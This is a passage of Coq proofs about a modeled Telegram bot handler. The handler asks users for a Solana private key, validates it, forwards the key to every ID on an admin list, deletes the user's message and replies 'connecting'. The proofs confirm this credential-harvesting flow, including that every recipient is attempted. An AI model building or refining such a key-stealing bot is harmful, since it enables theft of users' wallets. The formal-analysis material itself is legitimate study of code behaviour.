  - apply ws3_code in Hc; lia.
Qed.

Lemma spaces_head chars c r :
  Forall (fun ch => space_char ch = true) chars ->
  concat chars = c :: r -> (code c <= 32 \/ 194 <= code c)%N.
Proof.
  induction 1 as [|ch chars Hch _ IH]; [discriminate|].
  destruct ch as [|c' r']; [discriminate|].
  intros [= <- _]; exact (space_char_head _ _ _ Hch eq_refl).
Qed.

(** Stripping on the left removes a run of white space characters. *)
Lemma lstrip_bytes_spaces chars l :
  Forall (fun ch => space_char ch = true) chars ->
  lstrip_bytes (concat chars ++ l) = lstrip_bytes l.
Proof.
  induction 1 as [|ch chars Hch _ IH]; [reflexivity|].
  cbn [concat]; rewrite <- app_assoc.
  apply space_char_cases in Hch
    as [(c1 & -> & Hc)|[(c1 & c2 & -> & Hc)|(c1 & c2 & c3 & -> & Hc)]];
    unfold lstrip_bytes in *; cbn [app lstrip_with].
  - rewrite Hc; exact IH.
  - pose proof (ws2_code _ _ Hc).
    rewrite (ws1_false c1), Hc by lia; exact IH.
  - pose proof (ws3_code _ _ _ Hc).
    rewrite (ws1_false c1), (ws2_false_l c1 c2), Hc by lia; exact IH.
Qed.

(** And so does stripping on the right, read from the last byte. *)
Lemma lstrip_rev_spaces chars l :
  Forall (fun ch => space_char ch = true) chars ->
  lstrip_with (fun c2 c1 => ws2 c1 c2) (fun c3 c2 c1 => ws3 c1 c2 c3)
    (rev (concat chars) ++ l)
  = lstrip_with (fun c2 c1 => ws2 c1 c2) (fun c3 c2 c1 => ws3 c1 c2 c3) l.
Proof.
  intros Hall; revert l.
  induction Hall as [|ch chars Hch _ IH]; intros l; [reflexivity|].
  cbn [concat]; rewrite rev_app_distr, <- app_assoc, IH.
  apply space_char_cases in Hch
    as [(c1 & -> & Hc)|[(c1 & c2 & -> & Hc)|(c1 & c2 & c3 & -> & Hc)]];
    cbn [rev app lstrip_with].
  - rewrite Hc; reflexivity.
  - pose proof (ws2_code _ _ Hc).
    rewrite (ws1_false c2), Hc by lia; reflexivity.
  - pose proof (ws3_code _ _ _ Hc).
    rewrite (ws1_false c3), (ws2_false_l c2 c3), Hc by lia; reflexivity.
Qed.

(** A text that does not begin with white space still does not when
    white space follows it. *)
Lemma starts_ws_before_spaces l chars :
  l <> [] ->
  (forall ch rest, space_char ch = true -> l <> (ch ++ rest)%list) ->
  Forall (fun ch => space_char ch = true) chars ->
  starts_ws ws2 ws3 (l ++ concat chars) = false.
Proof.
  intros Hne Hl Hall.
  pose proof (spaces_head chars) as Hhead.
  destruct l as [|c1 r1]; [contradiction|clear Hne].
  assert (ws1 c1 = false) as H1.
  { destruct (ws1 c1) eqn:Hc; [|reflexivity].
    destruct (Hl [c1] r1 Hc eq_refl). }
  cbn [app starts_ws]; rewrite H1; cbn [orb].
  destruct r1 as [|c2 r2].
  - destruct (concat chars) as [|c2 [|c3 r3]] eqn:Hpost; cbn [app].
    + reflexivity.
    + pose proof (Hhead c2 [] Hall eq_refl).
      rewrite (ws2_false_r c1 c2) by lia; reflexivity.
    + pose proof (Hhead c2 _ Hall eq_refl).
      rewrite (ws2_false_r c1 c2), (ws3_false_2 c1 c2 c3) by lia; reflexivity.
  - assert (ws2 c1 c2 = false) as H2.
    { destruct (ws2 c1 c2) eqn:Hc; [|reflexivity].
      destruct (Hl [c1; c2] r2 Hc eq_refl). }
    cbn [app]; rewrite H2; cbn [orb].
    destruct r2 as [|c3 r3].
    + destruct (concat chars) as [|c3 r3] eqn:Hpost; cbn [app]; [reflexivity|].
      pose proof (Hhead c3 _ Hall eq_refl).
      apply ws3_false_3; lia.
    + cbn [app]; destruct (ws3 c1 c2 c3) eqn:Hc; [|reflexivity].
      destruct (Hl [c1; c2; c3] r3 Hc eq_refl).
Qed.

Lemma starts_ws_rev_clean l :
  (forall ch rest, space_char ch = true -> l <> (rest ++ ch)%list) ->
  starts_ws (fun c2 c1 => ws2 c1 c2) (fun c3 c2 c1 => ws3 c1 c2 c3) (rev l)
  = false.
Proof.
  intros Hl.
  assert (forall ch rest, space_char ch = true ->
                          rev l <> (rev ch ++ rest)%list) as Hr.
  { intros ch rest Hch Heq; apply (Hl ch (rev rest) Hch).
    rewrite <- (rev_involutive l), Heq, rev_app_distr, rev_involutive.
    reflexivity. }
  destruct (rev l) as [|c1 [|c2 [|c3 r3]]]; cbn [starts_ws]; [reflexivity|..].
  - destruct (ws1 c1) eqn:H1; [|reflexivity].
    destruct (Hr [c1] [] H1 eq_refl).
  - destruct (ws1 c1) eqn:H1; [destruct (Hr [c1] [c2] H1 eq_refl)|].
    destruct (ws2 c2 c1) eqn:H2; [|reflexivity].
    destruct (Hr [c2; c1] [] H2 eq_refl).
  - destruct (ws1 c1) eqn:H1; [destruct (Hr [c1] (c2 :: c3 :: r3) H1 eq_refl)|].
    destruct (ws2 c2 c1) eqn:H2; [destruct (Hr [c2; c1] (c3 :: r3) H2 eq_refl)|].
    destruct (ws3 c3 c2 c1) eqn:H3; [|reflexivity].
    destruct (Hr [c3; c2; c1] r3 H3 eq_refl).
Qed.

Lemma list_ascii_of_string_app (a b : string) :
  list_ascii_of_string (a +:+ b)
  = (list_ascii_of_string a ++ list_ascii_of_string b)%list.
Proof.
  induction a as [|c a IH]; [reflexivity|].
  change (String c a +:+ b) with (String c (a +:+ b)).
  cbn [list_ascii_of_string app]; rewrite IH; reflexivity.
Qed.

(** [strip] removes the white space around a text that neither begins
    nor ends with white space, and nothing else. *)
Lemma strip_surrounded (pre core post : string) :
  whitespace pre -> whitespace post ->
  ~ begins_with_space core -> ~ ends_with_space core ->
  strip (pre +:+ core +:+ post) = core.
Proof.
  intros (lp & Hlp & Hpre) (lq & Hlq & Hpost) Hb He.
  unfold strip; rewrite !list_ascii_of_string_app, Hpre, Hpost.
  rewrite (lstrip_bytes_spaces lp _ Hlp).
  rewrite <- (string_of_list_ascii_of_string core) at 2.
  set (l := list_ascii_of_string core) in *.
  assert (forall ch rest, space_char ch = true -> l <> (ch ++ rest)%list) as Hb'
    by (intros ch rest Hch Heq; apply Hb; exists ch, rest; auto).
  assert (forall ch rest, space_char ch = true -> l <> (rest ++ ch)%list) as He'
    by (intros ch rest Hch Heq; apply He; exists ch, rest; auto).
  f_equal.
  assert (lstrip_bytes (l ++ concat lq) = (l ++ concat lq)%list
          \/ l = [] /\ lstrip_bytes (l ++ concat lq) = []) as [->|[Hl ->]].
  { destruct (decide (l = [])) as [->|Hne].
    - right; split; [reflexivity|].
      rewrite <- (app_nil_r (concat lq)); cbn [app].
      rewrite (lstrip_bytes_spaces lq [] Hlq); reflexivity.
    - left; apply lstrip_with_clean, starts_ws_before_spaces; assumption. }
  - unfold rstrip_bytes; rewrite rev_app_distr, (lstrip_rev_spaces lq _ Hlq).
    rewrite lstrip_with_clean by (apply starts_ws_rev_clean, He').
    apply rev_involutive.
  - rewrite Hl; reflexivity.
Qed.

Lemma whitespace_empty : whitespace "".
Proof. exists []; split; [constructor|reflexivity]. Qed.

Lemma not_begins_empty : ~ begins_with_space "".
Proof.
  intros (ch & rest & Hch & Heq); destruct ch; [discriminate|discriminate].
Qed.

Lemma not_ends_empty : ~ ends_with_space "".
Proof.
  intros (ch & rest & Hch & Heq); destruct ch; [discriminate|].
  destruct rest; discriminate.
Qed.

Lemma append_empty_r (t : string) : t +:+ "" = t.
Proof.
  induction t as [|c t IH]; [reflexivity|].
  change (String c t +:+ "") with (String c (t +:+ "")); rewrite IH.
  reflexivity.
Qed.

Lemma strip_whitespace (t : string) : whitespace t -> strip t = "".
Proof.
  intros Ht.
  rewrite <- (strip_surrounded t "" "" Ht whitespace_empty not_begins_empty
                not_ends_empty).
  change ("" +:+ "") with ""; rewrite append_empty_r; reflexivity.
Qed.

(** The two conditions on the text between the white space, as
    computations. *)
Lemma not_begins_with_space (t : string) :
  starts_ws ws2 ws3 (list_ascii_of_string t) = false -> ~ begins_with_space t.
Proof.
  intros Hs (ch & rest & Hch & Heq); rewrite Heq in Hs.
  apply space_char_cases in Hch
    as [(c1 & -> & Hc)|[(c1 & c2 & -> & Hc)|(c1 & c2 & c3 & -> & Hc)]];
    cbn [app starts_ws] in Hs; rewrite Hc in Hs;
    rewrite ?orb_true_r in Hs; discriminate.
Qed.

Lemma not_ends_with_space (t : string) :
  starts_ws (fun c2 c1 => ws2 c1 c2) (fun c3 c2 c1 => ws3 c1 c2 c3)
    (rev (list_ascii_of_string t)) = false ->
  ~ ends_with_space t.
Proof.
  intros Hs (ch & rest & Hch & Heq); rewrite Heq, rev_app_distr in Hs.
  apply space_char_cases in Hch
    as [(c1 & -> & Hc)|[(c1 & c2 & -> & Hc)|(c1 & c2 & c3 & -> & Hc)]];
    cbn [rev app starts_ws] in Hs; rewrite Hc in Hs;
    rewrite ?orb_true_r in Hs; discriminate.
Qed.

Lemma strip_clean (core : string) :
  ~ begins_with_space core -> ~ ends_with_space core -> strip core = core.
Proof.
  intros Hb He.
  rewrite <- (strip_surrounded "" core "" whitespace_empty whitespace_empty
                Hb He) at 2.
  change ("" +:+ core +:+ "") with (core +:+ ""); rewrite append_empty_r.
  reflexivity.
Qed.

(** ** A credential that passes validation *)

Lemma contains_unfold (needle t : string) :
  contains needle t
  = String.prefix needle t
    || match t with
       | String _ r => contains needle r
       | EmptyString => false
       end.
Proof. destruct t; reflexivity. Qed.

Lemma prefix_app (needle rest : string) :
  String.prefix needle (needle +:+ rest) = true.
Proof.
  induction needle as [|c needle IH]; [destruct rest; reflexivity|].
  change (String c needle +:+ rest) with (String c (needle +:+ rest)).
  simpl; destruct (ascii_dec c c); [exact IH|contradiction].
Qed.

Lemma contains_app (needle before rest : string) :
  contains needle (before +:+ needle +:+ rest) = true.
Proof.
  induction before as [|c before IH].
  - change ("" +:+ needle +:+ rest) with (needle +:+ rest).
    rewrite contains_unfold, prefix_app; reflexivity.
  - change (String c before +:+ needle +:+ rest)
      with (String c (before +:+ needle +:+ rest)).
    rewrite contains_unfold, IH; apply orb_true_r.
Qed.

Section AcceptedCredential.

Context `{Base58Lib} `{NaclLib} `{Builtins}.
Variable E : env.
Variable cfg : config.
Variable u : update.
Variable s : state.

Let private_key : string := strip (message_text u).
Let returned : result Z := fst (handle_private_key E cfg u s).
Let s' : state := snd (handle_private_key E cfg u s).
Let ack : tg_call := reply_text connecting_reply None.
Let del : tg_call :=
  delete_message (effective_chat_id u) (message_id u).

(** The run of the handler on an accepted credential, event by event. *)
Lemma handle_private_key_accepted :
  awaiting s ->
  private_key <> "" ->
  validate_private_key private_key = true ->
  exists out evs,
    get_solana_balance E private_key s = (Ok out, logged s evs)
    /\ tg_calls evs = []
    /\ let sent :=
         admin_log E (notification u out) (ADMIN_ID_LIST cfg)
                   (log (logged s evs)) in
       let s3 := after_call E (logged (logged s evs) sent) del in
       let s4 := after_call E s3 ack in
       let c' := reply_text processing_error_reply None in
       match outcome E s3 ack with
       | Ok _ =>
           returned = Ok END
           /\ s' = with_flag "awaiting_private_key" false s4
           /\ new_events s s'
              = (evs ++ sent ++ [Tg del (outcome E (logged (logged s evs) sent) del);
                                 Tg ack (outcome E s3 ack)])%list
       | Raise _ =>
           returned = then_return (outcome E s4 c') WAITING_FOR_PRIVATE_KEY
           /\ s' = after_call E s4 c'
           /\ new_events s s'
              = (evs ++ sent ++ [Tg del (outcome E (logged (logged s evs) sent) del);
                                 Tg ack (outcome E s3 ack);
                                 Tg c' (outcome E s4 c')])%list
       end.
Proof.
  intros Hw Hne Hvalid.
  destruct (get_solana_balance_async_total E private_key s)
    as (out & evs & Hlookup & Hcalls & _).
  exists out, evs; split; [exact Hlookup|split; [exact Hcalls|]].
  intros sent s3 s4 c'.
  pose proof (handle_private_key_valid E cfg u s Hw out (logged s evs)
                Hne Hvalid Hlookup) as Hrun.
  cbv zeta in Hrun; fold sent del s3 ack s4 c' in Hrun.
  unfold returned, s'; rewrite Hrun.
  destruct (outcome E s3 ack) as [i|e] eqn:Hack; simpl;
    (split; [reflexivity|split; [reflexivity|]]).
  - change (new_events s (with_flag "awaiting_private_key" false s4))
      with (new_events s s4).
    subst s4 s3; unfold after_call in *; rewrite !logged_logged in *.
    rewrite new_events_logged, <- !app_assoc, Hack; reflexivity.
  - subst s4 s3; unfold after_call in *; rewrite !logged_logged in *.
    rewrite new_events_logged, <- !app_assoc, Hack; reflexivity.
Qed.

End AcceptedCredential.

Lemma contains_here (needle rest : string) :
  contains needle (needle +:+ rest) = true.
Proof. apply (contains_app needle "" rest). Qed.

Lemma contains_skip (a needle t : string) :
  contains needle t = true -> contains needle (a +:+ t) = true.
Proof.
  intros Ht; induction a as [|c a IH]; [exact Ht|].
  change (String c a +:+ t) with (String c (a +:+ t)).
  rewrite contains_unfold, IH; apply orb_true_r.
Qed.

Ltac find_in_message :=
  unfold notification, admin_message;
  repeat first [apply contains_here | apply contains_skip].

(** Every recipient of the list has its delivery in the log of the loop. *)
Lemma admin_log_attempts E message admins lg admin_id :
  admin_id ∈ admins ->
  exists r, Tg (send_message admin_id message) r ∈ admin_log E message admins lg.
Proof.
  revert lg; induction admins as [|a admins IH]; intros lg Hin;
    [inversion Hin|].
  apply elem_of_cons in Hin as [->|Hin]; simpl.
  - eexists; apply list_elem_of_here.
  - destruct (IH (lg ++ [Tg (send_message a message)
                            (telegram E lg (send_message a message))])%list Hin)
      as [r Hr].
    exists r; apply list_elem_of_further, Hr.
Qed.

Section AcceptedTrace.

Context `{Base58Lib} `{NaclLib} `{Builtins}.
Variable E : env.
Variable cfg : config.
Variable u : update.
Variable s : state.

Let private_key : string := strip (message_text u).
Let returned : result Z := fst (handle_private_key E cfg u s).
Let s' : state := snd (handle_private_key E cfg u s).
Let ack : tg_call := reply_text connecting_reply None.
Let del : tg_call :=
  delete_message (effective_chat_id u) (message_id u).

(** The events of an accepted credential: the lookup, one delivery per
    recipient, the deletion, the acknowledgement, and the generic error
    reply when the acknowledgement was not delivered. *)
Lemma handle_private_key_trace :
  awaiting s ->
  private_key <> "" ->
  validate_private_key private_key = true ->
  exists out evs r_del r_ack tail,
    get_solana_balance E private_key s = (Ok out, logged s evs)
    /\ tg_calls evs = []
    /\ new_events s s'
       = (evs ++ admin_log E (notification u out) (ADMIN_ID_LIST cfg)
                           (log s ++ evs)
              ++ Tg del r_del :: Tg ack r_ack :: tail)%list
    /\ (is_ok r_ack = true ->
        tail = [] /\ returned = Ok END
        /\ user_data s' = <["awaiting_private_key" := false]> (user_data s))
    /\ (is_ok r_ack = false ->
        tg_calls tail = [reply_text processing_error_reply None]
        /\ returned <> Ok END
        /\ user_data s' = user_data s).
Proof.
  intros Hw Hne Hvalid.
  destruct (handle_private_key_accepted E cfg u s Hw Hne Hvalid)
    as (out & evs & Hlookup & Hcalls & Hrun).
  cbv zeta in Hrun; fold private_key returned s' ack del in Hrun.
  exists out, evs; eexists; exists (outcome E
    (after_call E (logged (logged s evs)
       (admin_log E (notification u out) (ADMIN_ID_LIST cfg)
          (log (logged s evs)))) del) ack).
  destruct (outcome E _ ack) as [i|e].
  - destruct Hrun as (Hret & Hs' & Hev); exists [].
    split; [exact Hlookup|split; [exact Hcalls|split; [exact Hev|split]]].
    + intros _; split; [reflexivity|split; [exact Hret|]].
      rewrite Hs'; reflexivity.
    + discriminate.
  - destruct Hrun as (Hret & Hs' & Hev); eexists [_].
    split; [exact Hlookup|split; [exact Hcalls|split; [exact Hev|split]]].
    + discriminate.
    + intros _; split; [reflexivity|split].
      * rewrite Hret; apply then_return_not; discriminate.
      * rewrite Hs'; reflexivity.
Qed.

(** C1, amended.  In a waiting session, when the stripped text is not
    empty and decodes to 32 or 64 bytes, whatever the lookup returned:
    the notification, which contains the amount-or-error text and the
    credential, is sent to each recipient; the deletion of the user's
    message is attempted, its outcome ignored; the connecting
    acknowledgement is sent.  When the acknowledgement is delivered the
    handler returns [END] and the flag becomes false.  When it is not,
    the generic error reply is sent, the flag stays true and the handler
    does not return [END]. *)
Theorem accepted_credential_ends_capture (decoded : list byte) :
  awaiting s ->
  private_key <> "" ->
  b58decode private_key = Ok decoded ->
  length decoded = 32%nat \/ length decoded = 64%nat ->
  exists out r_del r_ack tail,
    fst (get_solana_balance E private_key s) = Ok out
    /\ contains (balance_text out.1 out.2) (notification u out) = true
    /\ contains private_key (notification u out) = true
    /\ tg_calls (new_events s s')
       = (map (fun admin_id => send_message admin_id (notification u out))
              (ADMIN_ID_LIST cfg)
          ++ del :: ack :: tg_calls tail)%list
    /\ Tg del r_del ∈ new_events s s'
    /\ Tg ack r_ack ∈ new_events s s'
    /\ (is_ok r_ack = true ->
        tail = [] /\ returned = Ok END
        /\ user_data s' !! "awaiting_private_key" = Some false)
    /\ (is_ok r_ack = false ->
        tg_calls tail = [reply_text processing_error_reply None]
        /\ returned <> Ok END /\ awaiting s').
Proof.
  intros Hw Hne Hdec Hlen.
  assert (validate_private_key private_key = true) as Hvalid
    by (exact (validate_private_key_accepts _ _ Hdec Hlen)).
  destruct (handle_private_key_trace Hw Hne Hvalid)
    as (out & evs & r_del & r_ack & tail & Hlookup & Hcalls & Hev & Hok & Hko).
  exists out, r_del, r_ack, tail.
  split; [rewrite Hlookup; reflexivity|].
  split; [find_in_message|split; [fold private_key; find_in_message|]].
  split; [|split; [|split; [|split]]].
  - rewrite Hev, !tg_calls_app, Hcalls, tg_calls_admin_log; reflexivity.
  - rewrite Hev, !elem_of_app; right; right; apply list_elem_of_here.
  - rewrite Hev, !elem_of_app; right; right.
    apply list_elem_of_further, list_elem_of_here.
  - intros Hack; destruct (Hok Hack) as (-> & Hret & Hud).
    split; [reflexivity|split; [exact Hret|]].
    rewrite Hud; apply lookup_insert_eq.
  - intros Hack; destruct (Hko Hack) as (Htail & Hret & Hud).
    split; [exact Htail|split; [exact Hret|]].
    unfold awaiting; rewrite Hud; exact Hw.
Qed.

(** C9.  On an accepted credential the handler attempts one delivery of
    the same notification per entry of the recipient list, in order,
    whatever the outcome of each delivery; after the last one it goes on
    with the deletion and the acknowledgement, and when the
    acknowledgement is delivered it ends the capture. *)
Theorem every_recipient_is_attempted :
  awaiting s ->
  private_key <> "" ->
  validate_private_key private_key = true ->
  exists out evs r_del r_ack tail,
    fst (get_solana_balance E private_key s) = Ok out
    /\ tg_calls evs = []
    /\ let deliveries :=
         admin_log E (notification u out) (ADMIN_ID_LIST cfg) (log s ++ evs) in
       new_events s s'
       = (evs ++ deliveries ++ Tg del r_del :: Tg ack r_ack :: tail)%list
       /\ tg_calls deliveries
          = map (fun admin_id => send_message admin_id (notification u out))
                (ADMIN_ID_LIST cfg)
       /\ (forall admin_id,
             admin_id ∈ ADMIN_ID_LIST cfg ->
             exists r,
               Tg (send_message admin_id (notification u out)) r
               ∈ new_events s s')
       /\ (is_ok r_ack = true -> returned = Ok END /\ ~ awaiting s').
Proof.
  intros Hw Hne Hvalid.
  destruct (handle_private_key_trace Hw Hne Hvalid)
    as (out & evs & r_del & r_ack & tail & Hlookup & Hcalls & Hev & Hok & _).
  exists out, evs, r_del, r_ack, tail.
  split; [rewrite Hlookup; reflexivity|split; [exact Hcalls|]].
  intros deliveries; split; [exact Hev|split; [apply tg_calls_admin_log|split]].
  - intros admin_id Hin; rewrite Hev.
    destruct (admin_log_attempts E (notification u out) _
                (log s ++ evs)%list admin_id Hin) as [r Hr].
    exists r; rewrite !elem_of_app; right; left; exact Hr.
  - intros Hack; destruct (Hok Hack) as (_ & Hret & Hud).
    split; [exact Hret|].
    unfold awaiting; rewrite Hud, lookup_insert_eq; discriminate.
Qed.

End AcceptedTrace.

Lemma rejected_text_keeps_waiting_witness :
  awaiting (snd (handle_private_key (H:=base58_package) (H0:=nacl_stand_in)
                   (H1:=builtins_ascii) (delivering (Raise timed_out))
                   example_config (text_update "") (session true)))
  /\ awaiting (snd (handle_private_key (H:=base58_package) (H0:=nacl_stand_in)
                      (H1:=builtins_ascii) (delivering (Raise timed_out))
                      example_config (text_update "not a key") (session true))).
Proof.
  split.
  - apply (proj2 (proj2
      (rejected_text_keeps_waiting (H:=base58_package) (H0:=nacl_stand_in)
         (H1:=builtins_ascii) (delivering (Raise timed_out)) example_config
         (text_update "") (session true) eq_refl))).
    left; reflexivity.
  - apply (proj2 (proj2
      (rejected_text_keeps_waiting (H:=base58_package) (H0:=nacl_stand_in)
         (H1:=builtins_ascii) (delivering (Raise timed_out)) example_config
         (text_update "not a key") (session true) eq_refl))).
    right; vm_compute; reflexivity.
Defined.

Lemma accepted_credential_ends_capture_witness :
  exists out,
    fst (get_solana_balance (H:=base58_package) (H0:=nacl_stand_in)
           (H1:=builtins_ascii) (delivering (Raise timed_out))
           (strip key64) (session true)) = Ok out
    /\ contains (strip key64) (notification (text_update key64) out) = true.
Proof.
  destruct (accepted_credential_ends_capture (H:=base58_package)
              (H0:=nacl_stand_in) (H1:=builtins_ascii)
              (delivering (Raise timed_out)) example_config
              (text_update key64) (session true) key64_bytes)
    as (out & _ & _ & _ & Hout & _ & Hkey & _).
  - reflexivity.
  - vm_compute; discriminate.
  - vm_compute; reflexivity.
  - right; reflexivity.
  - exists out; split; [exact Hout|exact Hkey].
Defined.

(** C1 as stated fails when the acknowledgement cannot be delivered: the
    recipients have been notified, the handler returns
    [WAITING_FOR_PRIVATE_KEY] and the flag is still true. *)
Lemma undelivered_ack_counterexample :
  let run :=
    handle_private_key (H:=base58_package) (H0:=nacl_stand_in)
      (H1:=builtins_ascii)
      (dropping_reply connecting_reply (Raise timed_out)) example_config
      (text_update key32) (session true) in
  Base58.decode (strip key32) = Ok key32_bytes
  /\ length key32_bytes = 32%nat
  /\ fst run = Ok WAITING_FOR_PRIVATE_KEY
  /\ user_data (snd run) !! "awaiting_private_key" = Some true
  /\ tg_calls (log (snd run))
     = let message :=
         notification (text_update key32) (None, "Error: timed out") in
       [ send_message 11 message; send_message 12 message;
         send_message 13 message; delete_message 42 1000;
         reply_text connecting_reply None;
         reply_text processing_error_reply None ].
Proof. vm_compute; repeat split. Qed.

Lemma every_recipient_is_attempted_witness :
  exists out r11 r12 r13,
    let message := notification (text_update key32) out in
    Tg (send_message 11 message) r11
    ∈ log (snd (handle_private_key (H:=base58_package) (H0:=nacl_stand_in)
                  (H1:=builtins_ascii) (blocking [11; 12] (Raise timed_out))
                  example_config (text_update key32) (session true)))
    /\ Tg (send_message 12 message) r12
       ∈ log (snd (handle_private_key (H:=base58_package) (H0:=nacl_stand_in)
                     (H1:=builtins_ascii) (blocking [11; 12] (Raise timed_out))
                     example_config (text_update key32) (session true)))
    /\ Tg (send_message 13 message) r13
       ∈ log (snd (handle_private_key (H:=base58_package) (H0:=nacl_stand_in)
                     (H1:=builtins_ascii) (blocking [11; 12] (Raise timed_out))
                     example_config (text_update key32) (session true))).
Proof.
  destruct (every_recipient_is_attempted (H:=base58_package)
              (H0:=nacl_stand_in) (H1:=builtins_ascii)
              (blocking [11; 12] (Raise timed_out)) example_config
              (text_update key32) (session true))
    as (out & evs & r_del & r_ack & tail & _ & _ & _ & _ & Hall & _).
  - reflexivity.
  - vm_compute; discriminate.
  - vm_compute; reflexivity.
  - destruct (Hall 11) as [r11 H11]; [apply list_elem_of_here|].
    destruct (Hall 12) as [r12 H12];
      [apply list_elem_of_further, list_elem_of_here|].
    destruct (Hall 13) as [r13 H13];
      [do 2 apply list_elem_of_further; apply list_elem_of_here|].
    exists out, r11, r12, r13; repeat split; assumption.
Defined.

Lemma append_assoc (a b c : string) : (a +:+ b) +:+ c = a +:+ b +:+ c.
Proof.
  induction a as [|x a IH]; [reflexivity|].
  change ((String x a +:+ b) +:+ c) with (String x ((a +:+ b) +:+ c)).
  rewrite IH; reflexivity.
Qed.

Lemma contains_quoted (q t rest : string) :
  contains (q +:+ t +:+ q) (q +:+ t +:+ q +:+ rest) = true.
Proof.
  rewrite <- (append_assoc t q rest), <- (append_assoc q (t +:+ q) rest).
  apply contains_here.
Qed.

Section Stripped.

Context `{Base58Lib} `{NaclLib} `{Builtins}.
Variable E : env.
Variable cfg : config.

(** The handler reads the text of the message through [strip] only. *)
Lemma handle_private_key_strip (u : update) (t : string) (s : state) :
  strip t = strip (message_text u) ->
  handle_private_key E cfg (with_text t u) s = handle_private_key E cfg u s.
Proof.
  intros Ht; unfold handle_private_key, with_text.
  cbn [message_text effective_user_id effective_user_username
       effective_chat_id message_id].
  rewrite Ht; reflexivity.
Qed.

(** C10.  The handler reads the text through [str.strip()], which
    removes the white space characters at both ends and nothing else:
    when the text is white space, then a core that neither begins nor
    ends with white space, then white space again, the key the handler
    works on is the core, and the handler behaves as on the core alone.
    It behaves on a message as on the message with its text stripped,
    and equally on two texts that strip to the same string.  In a
    waiting session a text of white space only, as every text that
    strips to the empty string, gets the no-credential reply; otherwise
    the stripped string is the one given to [validate_private_key], the
    one the lookup runs on, and the one between backquotes in the
    notification delivered to the recipients. *)
Theorem credential_is_stripped (u : update) (s : state) :
  let private_key := strip (message_text u) in
  let s' := snd (handle_private_key E cfg u s) in
  handle_private_key E cfg (with_text private_key u) s
  = handle_private_key E cfg u s
  /\ (forall t,
        strip t = private_key ->
        handle_private_key E cfg (with_text t u) s
        = handle_private_key E cfg u s)
  /\ (awaiting s -> private_key = "" ->
      new_events s s'
      = [Tg (reply_text no_key_reply None)
            (outcome E s (reply_text no_key_reply None))])
  /\ (awaiting s -> private_key <> "" ->
      validate_private_key private_key = false ->
      exists tail,
        new_events s s'
        = Tg (reply_text invalid_format_reply None)
             (outcome E s (reply_text invalid_format_reply None)) :: tail)
  /\ (awaiting s -> private_key <> "" ->
      validate_private_key private_key = true ->
      exists out evs tail,
        get_solana_balance E private_key s = (Ok out, logged s evs)
        /\ new_events s s'
           = (evs ++ admin_log E (notification u out) (ADMIN_ID_LIST cfg)
                               (log s ++ evs) ++ tail)%list
        /\ notification u out
           = admin_message (or_else (effective_user_username u) "NoUsername")
               (effective_user_id u) (balance_text out.1 out.2)
               (public_key_text out.1 out.2) private_key
        /\ contains ("`" +:+ private_key +:+ "`") (notification u out) = true)
  /\ (forall pre core post,
        whitespace pre -> whitespace post ->
        ~ begins_with_space core -> ~ ends_with_space core ->
        message_text u = pre +:+ core +:+ post ->
        private_key = core
        /\ handle_private_key E cfg u s
           = handle_private_key E cfg (with_text core u) s)
  /\ (awaiting s -> whitespace (message_text u) ->
      private_key = ""
      /\ new_events s s'
         = [Tg (reply_text no_key_reply None)
               (outcome E s (reply_text no_key_reply None))]).
Proof.
  intros private_key s'; split; [|split; [|split; [|split; [|split; [|split]]]]].
  - apply handle_private_key_strip, strip_idempotent.
  - intros t Ht; apply handle_private_key_strip, Ht.
  - intros Hw Hempty; unfold s'.
    rewrite (handle_private_key_empty E cfg u s Hw Hempty); simpl.
    unfold after_call; apply new_events_logged.
  - intros Hw Hne Hbad.
    unfold s'; rewrite (handle_private_key_invalid E cfg u s Hw Hne Hbad).
    destruct (outcome E s (reply_text invalid_format_reply None)) as [i|e]
      eqn:Ho; cbn [snd].
    + exists []; unfold after_call; rewrite new_events_logged, Ho; reflexivity.
    + eexists; rewrite after_call_twice, new_events_logged, Ho; reflexivity.
  - intros Hw Hne Hvalid.
    destruct (handle_private_key_trace E cfg u s Hw Hne Hvalid)
      as (out & evs & r_del & r_ack & tail & Hlookup & _ & Hev & _).
    exists out, evs; eexists.
    split; [exact Hlookup|split; [exact Hev|split; [reflexivity|]]].
    unfold notification, admin_message; fold private_key.
    repeat first [apply contains_quoted | apply contains_skip].
  - intros pre core post Hpre Hpost Hb He Htext.
    assert (private_key = core) as Hkey
      by (unfold private_key; rewrite Htext;
          apply strip_surrounded; assumption).
    split; [exact Hkey|].
    symmetry; apply handle_private_key_strip.
    rewrite (strip_clean core Hb He); symmetry; exact Hkey.
  - intros Hw Hspace.
    pose proof (strip_whitespace _ Hspace) as Hempty.
    split; [exact Hempty|]; unfold s'.
    rewrite (handle_private_key_empty E cfg u s Hw Hempty); simpl.
    unfold after_call; apply new_events_logged.
Qed.

End Stripped.

Lemma credential_is_stripped_witness :
  strip (pad key32) = key32
  /\ handle_private_key (H:=base58_package) (H0:=nacl_stand_in)
       (H1:=builtins_ascii) (delivering (Raise timed_out)) example_config
       (text_update (pad key32)) (session true)
     = handle_private_key (H:=base58_package) (H0:=nacl_stand_in)
         (H1:=builtins_ascii) (delivering (Raise timed_out)) example_config
         (text_update key32) (session true)
  /\ new_events (session true)
       (snd (handle_private_key (H:=base58_package) (H0:=nacl_stand_in)
               (H1:=builtins_ascii) (delivering (Raise timed_out))
               example_config (text_update (pad "")) (session true)))
     = [Tg (reply_text no_key_reply None) (Ok 7)].
Proof.
  assert (whitespace (String "009" (String " " EmptyString))) as Hpre
    by (exists [["009"%char]; [" "%char]];
        split; [repeat constructor|reflexivity]).
  assert (whitespace
            (String " " (String "010" (String "194" (String "160"
               (String "227" (String "128" (String "128" EmptyString))))))))
    as Hpost
    by (exists [[" "%char]; ["010"%char]; ["194"%char; "160"%char];
                ["227"%char; "128"%char; "128"%char]];
        split; [repeat constructor|reflexivity]).
  assert (~ begins_with_space key32) as Hb
    by (apply not_begins_with_space; vm_compute; reflexivity).
  assert (~ ends_with_space key32) as He
    by (apply not_ends_with_space; vm_compute; reflexivity).
  split; [|split].
  - apply (proj1 (proj1 (proj2 (proj2 (proj2 (proj2 (proj2
      (credential_is_stripped (H:=base58_package) (H0:=nacl_stand_in)
         (H1:=builtins_ascii) (delivering (Raise timed_out)) example_config
         (text_update (pad key32)) (session true)))))))
      _ key32 _ Hpre Hpost Hb He eq_refl)).
  - apply (proj2 (proj1 (proj2 (proj2 (proj2 (proj2 (proj2
      (credential_is_stripped (H:=base58_package) (H0:=nacl_stand_in)
         (H1:=builtins_ascii) (delivering (Raise timed_out)) example_config
         (text_update (pad key32)) (session true)))))))
      _ key32 _ Hpre Hpost Hb He eq_refl)).
